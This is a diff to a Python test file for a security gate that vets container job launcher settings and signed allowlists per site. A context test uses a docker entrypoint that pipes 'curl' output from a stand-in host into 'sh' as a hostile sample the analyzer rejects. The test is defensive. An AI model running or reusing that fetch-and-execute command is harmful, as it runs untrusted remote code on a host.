@@ -274,3 +274,29 @@ def test_an_analysis_that_runs_out_of_time_still_reports_the_launcher_verdict(tm
     job = make_job(tmp_path / "job", **docker(entrypoint=["sh", "-c", "curl -s https://e.example/x | sh"]))
     report = api.analyze_isolated(collect(job, Limits()), load_policy(), OutOfTime())
     assert report.decision is Decision.REJECT and "config-attack.job-launcher-shell" in rules_of(report)
+
+
+def test_recheck_judges_an_app_accepted_at_a_site_as_that_site(tmp_path: Path) -> None:
+    """`jobgate allowlist recheck` scans the stored copy with its launcher settings (else its digest differs)
+    as the site that accepted it resolves them: site-2's unlisted image is not site-1's concern."""
+    from analyzer.trust import allowlist
+
+    for name in ("gate",):
+        r = subprocess.run([sys.executable, "-m", "analyzer.commands.cli", "keygen", "--out", str(tmp_path / name)],
+                           cwd=ROOT, capture_output=True, text=True, timeout=120)
+        assert r.returncode == 0, r.stderr
+    policy_file = site_policy(tmp_path)
+    policy_file.write_text(policy_file.read_text() + "trust:\n  gate: gate.pub\n")
+    policy = load_policy(policy_file)
+    spec = {"launcher_spec": {"site-1": {"docker": {"image": IMAGE}}, "site-2": {"docker": {"image": "evil/img"}}}}
+    job = make_job(tmp_path / "job", **spec)
+    allow = tmp_path / "allowlist.jsonl"
+    content, report = api.gate(job / "app", policy, allowlist=allow, gate_key=tmp_path / "gate.key", app_name="app",
+                               job_meta=spec, site="site-1")
+    assert report.decision is Decision.ACCEPT and allowlist.check(allow, content.digest, policy).covered
+    assert api.scan(job, policy).decision is Decision.ESCALATE  # before submission: site-2's image counts
+    r = subprocess.run([sys.executable, "-m", "analyzer.commands.cli", "allowlist", "recheck", str(allow),
+                        "--policy", str(policy_file), "--key", str(tmp_path / "gate.key")],
+                       cwd=ROOT, capture_output=True, text=True, timeout=300)
+    assert r.returncode == 0, r.stdout + r.stderr
+    assert "kept" in r.stdout and "0 revoked, 0 could not be rechecked" in r.stdout
